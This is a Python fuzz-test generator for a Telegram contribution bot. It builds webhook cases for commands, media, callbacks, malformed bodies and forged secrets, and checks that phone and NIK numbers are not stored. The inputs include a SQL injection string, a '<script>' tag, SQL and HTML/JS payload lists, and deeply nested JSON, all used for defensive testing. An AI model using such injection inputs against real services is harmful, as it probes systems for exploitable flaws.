MEDIA: tuple[dict[str, Any], ...] = (
    {"sticker": STICKER},
    {"photo": PHOTO},
    {"document": {"file_id": "BQAC", "file_unique_id": "AgAE", "file_name": "ktp.pdf", "mime_type": "application/pdf"}},
    {"voice": {"file_id": "AwAC", "file_unique_id": "AgAF", "duration": 3}},
    {"audio": {"file_id": "CQAC", "file_unique_id": "AgAG", "duration": 200}},
    {"video": {"file_id": "BAAC", "file_unique_id": "AgAH", "width": 640, "height": 480, "duration": 5}},
    {"video_note": {"file_id": "DQAC", "file_unique_id": "AgAI", "length": 240, "duration": 5}},
    {"animation": {"file_id": "CgAC", "file_unique_id": "AgAJ", "width": 320, "height": 240, "duration": 2}},
    {"location": {"latitude": -6.2, "longitude": 106.8}},
    {"venue": {"location": {"latitude": -6.2, "longitude": 106.8}, "title": "Warung", "address": "Jl. Merdeka 1"}},
    {"dice": {"emoji": "🎲", "value": 6}},
    {
        "poll": {
            "id": "p1",
            "question": "?",
            "options": [{"text": "a", "voter_count": 0, "persistent_id": "o1"}],
            "total_voter_count": 0,
            "is_closed": False,
            "is_anonymous": True,
            "type": "regular",
            "allows_multiple_answers": False,
            "allows_revoting": False,
            "members_only": False,
        }
    },
)


def _bot_commands(rng: random.Random) -> Iterator[BotCase]:
    phone, nik = _phone_digits(rng), _nik(rng)
    for text in [
        "/start",
        "/start perisai_123",
        "/help",
        "/restart",
        "/menu@" + BOT_USERNAME,
        "/START",
        "/privasi",
        "/hapusdata",
        f'/iuran{{"calc_workers": "{SENTINEL}"}}',
        f'/calc_iuran{{"calc_target": "{SENTINEL}"}}',
        "/start " + "x" * 300,
        "/start <script>",
        "/settings",
        "/session_start",
    ]:
        yield BotCase("tg_command", "reply", text_update(text))
    # "/start 0812…" is typed, not a deep link: the number must not become the user's source.
    yield BotCase("tg_command", "reply", text_update("/start 0" + phone), needles=(phone,), fresh=True)
    yield BotCase("tg_command", "reply", text_update("/start " + nik), needles=(nik,), fresh=True)
    yield BotCase("tg_command", "silent", {"message": message("/start@other_bot", chat=GROUP)}, group=True)
    while True:
        name = rng.choice(
            ["start", "menu", "bantuan", "iuran", "wajib", "daftar", "help", "restart", "x" * 32, "back", "stop"]
        )
        suffix = rng.choice(["", "@" + BOT_USERNAME, " " + rng.choice(QUESTIONS), " " + rng.choice(SQL)])
        yield BotCase("tg_command", "reply", text_update(f"/{name}{suffix}"))


def _bot_media(rng: random.Random) -> Iterator[BotCase]:
    for media in MEDIA:
        yield BotCase("tg_media", "reply", {"message": message(None, **media)})
    nik = _nik(rng)
    yield BotCase(
        "tg_media", "reply", {"message": message(None, photo=PHOTO, caption=f"foto ktp nik {nik}")}, needles=(nik,)
    )
    phone = _phone_digits(rng)
    contact = {"phone_number": "+62" + phone, "first_name": "Budi", "user_id": 42}
    yield BotCase("tg_media", "reply", {"message": message(None, contact=contact)}, needles=(phone,))
    yield BotCase("tg_media", "silent", {"message": message(None, chat=GROUP, sticker=STICKER)}, group=True)
    while True:
        extra = dict(rng.choice(MEDIA))
        if rng.random() < 0.5:
            extra["caption"] = rng.choice(HTML_JS + SQL + QUESTIONS)
        yield BotCase("tg_media", "reply", {"message": message(None, **extra)})


def _bot_silent_kinds(rng: random.Random) -> Iterator[BotCase]:
    edited = {**message("iuran jkm brp persen ya"), "edit_date": 1_764_000_100}
    post = {
        "message_id": 9,
        "date": 1_764_000_000,
        "chat": {"id": -100_123, "type": "channel", "title": "Kanal"},
        "text": "halo",
    }
    for update in [
        {"edited_message": edited},
        {"channel_post": post},
        {"edited_channel_post": {**post, "edit_date": 1_764_000_100}},
        {"message": message("iuran jkm brp", chat=GROUP)},  # a group message that does not mention the bot
        {"message": message(None, new_chat_members=[_user(55)])},
        {"message": message(None, left_chat_member=_user(55))},
        {"inline_query": {"id": "iq", "from": _user(), "query": "iuran", "offset": ""}},
        {"chosen_inline_result": {"result_id": "r", "from": _user(), "query": "iuran"}},
        {"poll_answer": {"poll_id": "p1", "user": _user(), "option_ids": [0], "option_persistent_ids": ["o1"]}},
        # Before Bot API 9.6 made `option_persistent_ids` required: this library cannot read it.
        {"poll_answer": {"poll_id": "p1", "user": _user(), "option_ids": [0]}},
        {
            "my_chat_member": {
                "chat": _chat(),
                "from": _user(),
                "date": 1_764_000_000,
                "old_chat_member": {"status": "member", "user": _user(777000)},
                "new_chat_member": {"status": "kicked", "user": _user(777000), "until_date": 0},
            }
        },
        {
            "shipping_query": {
                "id": "sq",
                "from": _user(),
                "invoice_payload": "x",
                "shipping_address": {
                    "country_code": "ID",
                    "state": "",
                    "city": "Jakarta",
                    "street_line1": "Jl",
                    "street_line2": "",
                    "post_code": "10110",
                },
            }
        },
        {
            "pre_checkout_query": {
                "id": "pq",
                "from": _user(),
                "currency": "IDR",
                "total_amount": 10**15,
                "invoice_payload": "x",
            }
        },
        {
            "message_reaction": {
                "chat": _chat(),
                "message_id": 1,
                "date": 1_764_000_000,
                "old_reaction": [],
                "new_reaction": [{"type": "emoji", "emoji": "👍"}],
            }
        },
        {"some_future_update_kind": {"x": 1}},
        {},  # only an update_id
    ]:
        yield BotCase("tg_silent_kinds", "silent", update, group="chat" in str(update) and "group" in str(update))
    while True:
        yield BotCase(
            "tg_silent_kinds",
            "silent",
            {"edited_message": {**message(rng.choice(QUESTIONS)), "edit_date": 1_764_000_100}},
        )


def _bot_callbacks(rng: random.Random) -> Iterator[BotCase]:
    for data in [
        "p:unknown",
        "p:",
        "",
        "bot:forget:yes",
        "bot:reminder:on",
        "/restart",
        '/choose_topic{"topic":"x"}',
        "p:" + "A" * 16,
        "' OR 1=1 --",
        "x" * 64,
        "x" * 10_000,
        "p:\u200b",
        None,
    ]:
        yield BotCase("tg_callback", "reply", _callback(data))
    yield BotCase("tg_callback", "silent", _callback("p:unknown", with_message=False, inline_message_id="im-1"))
    yield BotCase("tg_callback", "silent", _callback(None, with_message=False, game_short_name="game"))
    while True:
        data = "".join(rng.choice("p:/{}\"'abc123_-@ \u200b😀") for _ in range(rng.randint(0, 80)))
        yield BotCase("tg_callback", "reply", _callback(data))


def _bot_group(rng: random.Random) -> Iterator[BotCase]:
    mention = "@" + BOT_USERNAME
    for text in [
        f"{mention} iuran jkm brp",
        f"{mention.upper()} iuran jkm brp",
        f"{mention} /restart",
        f"{mention} {SQL[1]}",
        f"{mention}",
    ]:
        yield BotCase("tg_group", "reply", {"message": message(text, chat=GROUP)}, group=True)
    while True:
        text = f"{rng.choice(QUESTIONS)} {mention} {rng.choice(HTML_JS + SQL)}"
        yield BotCase("tg_group", "reply", {"message": message(text, chat=GROUP)}, group=True)


def _bot_odd_fields(rng: random.Random) -> Iterator[BotCase]:
    base = message("iuran jkm brp")
    cases: list[dict[str, Any]] = [
        {"message": {k: v for k, v in base.items() if k != "from"}},
        {"message": {k: v for k, v in base.items() if k != "date"}},
        {"message": {k: v for k, v in base.items() if k != "chat"}},
        {"message": {**base, "text": 12345}},
        {"message": {**base, "text": ["iuran"]}},
        {"message": {**base, "text": None}},
        {"message": {**base, "chat": {"id": "abc", "type": "private"}}},
        {"message": {**base, "chat": {"id": CHAT, "type": "planet"}}},
        {"message": {**base, "date": "kemarin"}},
        {"message": {**base, "date": 10**12}},
        {"message": {**base, "date": -1}},
        {"message": {**base, "message_id": 2**63}},
        {"message": {**base, "from": {"id": 10**30, "is_bot": False, "first_name": "B"}}},
        {"message": {**base, "entities": [{"type": "bot_command", "offset": 50, "length": 10}]}},
        {"message": {**base, "entities": [{"type": "nonsense", "offset": -1, "length": -5}]}},
        {"message": {**base, "entities": "x"}},
        {"message": {**base, "reply_to_message": {"message_id": 0}}},
        {"message": "iuran jkm"},
        {"message": None},
        {"message": [], "callback_query": {}},
        {"message": base, "callback_query": _callback("p:x")["callback_query"]},
        {"callback_query": {"id": "x", "from": _user(), "chat_instance": "c", "data": {"nested": 1}}},
        {"callback_query": {"id": 5, "from": "x"}},
    ]
    for update in cases:
        yield BotCase("tg_odd_fields", "any", update)
    huge_chat = 2**62
    yield BotCase(
        "tg_odd_fields", "any", {"message": message("iuran jkm brp", chat=huge_chat)}, extra={"chat": huge_chat}
    )
    yield BotCase(
        "tg_odd_fields", "any", {"message": message("iuran jkm brp", chat=-(2**63))}, extra={"chat": -(2**63)}
    )
    yield BotCase("tg_odd_fields", "any", {"message": message("halo", chat=10**40)}, extra={"chat": 10**40})
    while True:
        update = json.loads(json.dumps(rng.choice(cases[:17])))
        update.setdefault("message", {})
        if isinstance(update["message"], dict):
            key = rng.choice(["text", "message_id", "date", "from", "entities"])
            update["message"][key] = rng.choice([None, -1, 2**70, "x", [], {}, True, 1.5, "\ud800"])
        yield BotCase("tg_odd_fields", "any", update)


def _bot_malformed(rng: random.Random) -> Iterator[BotCase]:
    valid = text_update("iuran jkm brp")
    for body in [
        b"",
        b"{not json",
        b"\xff\xfe\xfd{",
        b"[" * 100_000 + b"]" * 100_000,
        b"null",
        b"[1, 2]",
        b'"x"',
        b"{}",
        b'{"update_id": "7"}',
        b'{"update_id": true}',
        b'{"update_id": 1.5}',
        b'{"update_id": null}',
        b'{"update_id": 1' + b"0" * 5000 + b"}",
    ]:
        yield BotCase("tg_malformed", "4xx", body=body)
    yield BotCase("tg_malformed", "4xx", valid, content_type="text/plain")
    yield BotCase("tg_malformed", "4xx", valid, content_type="application/x-www-form-urlencoded")
    yield BotCase("tg_malformed", "4xx", valid, method="GET")
    yield BotCase("tg_malformed", "4xx", valid, method="PUT")
    while True:
        good = _json({"update_id": 1, **valid})
        cut = rng.randrange(1, len(good) - 1)
        yield BotCase("tg_malformed", "4xx", body=good[:cut])


def _bot_secret(rng: random.Random) -> Iterator[BotCase]:
    phone = _phone_digits(rng)
    for secret in ("missing", "forged"):
        yield BotCase("tg_secret", "403", text_update("iuran jkm brp"), secret=secret)  # type: ignore[arg-type]
        yield BotCase("tg_secret", "403", text_update(f"hp saya 0{phone}"), secret=secret, needles=(phone,))  # type: ignore[arg-type]
        yield BotCase("tg_secret", "403", body=b"{not json", secret=secret)  # type: ignore[arg-type]
    while True:
        yield BotCase("tg_secret", "403", text_update(rng.choice(QUESTIONS)), secret=rng.choice(["missing", "forged"]))


BOT_ONLY: dict[str, tuple[Callable[[random.Random], Iterator[BotCase]], float]] = {
    "tg_command": (_bot_commands, 1.0),
    "tg_media": (_bot_media, 0.8),
    "tg_silent_kinds": (_bot_silent_kinds, 0.8),
    "tg_callback": (_bot_callbacks, 1.0),
    "tg_group": (_bot_group, 0.5),
    "tg_odd_fields": (_bot_odd_fields, 1.2),
    "tg_malformed": (_bot_malformed, 0.8),
    "tg_secret": (_bot_secret, 0.5),
}


def bot_cases(total: int, seed: int = SEED) -> list[BotCase]:
    """Text cases as private-chat updates, then the Telegram-only categories; about `total`."""
    special_total = max(100, total * 2 // 5)
    cases = [
        BotCase(t.category, "reply", text_update(t.text), needles=t.needles, fresh=t.fresh)
        for t in text_cases(total - special_total, seed + 1, minimum=4)
    ]
    quotas = _quotas({k: w for k, (_, w) in BOT_ONLY.items()}, special_total, 6)
    for index, (name, (make, _)) in enumerate(BOT_ONLY.items()):
        cases += _take(make(random.Random(seed * 3000 + index)), quotas[name])
    return cases


# --------------------------------------------------------------------------------------------
# What the test checks stored data with
# --------------------------------------------------------------------------------------------

_SEPARATORS = re.compile(r"[\s.()\-+/:]")


def squash(text: str) -> str:
    """The form needles are looked for in: lowercase, invisible characters and separators gone,
    digits of every script as ASCII. '0812-3456 7890' and '０８１２…' both contain '81234567890'."""
    out = []
    for char in text.lower():
        category = unicodedata.category(char)
        if category in ("Cf", "Cc", "Cs") or _SEPARATORS.match(char):
            continue
        out.append(str(unicodedata.decimal(char)) if category == "Nd" else char)
    return "".join(out)


def squash_needle(needle: str) -> str:
    """Needles keep their own dots and at-sign (e-mail addresses); digits are compared bare."""
    return needle.lower() if "@" in needle else squash(needle)
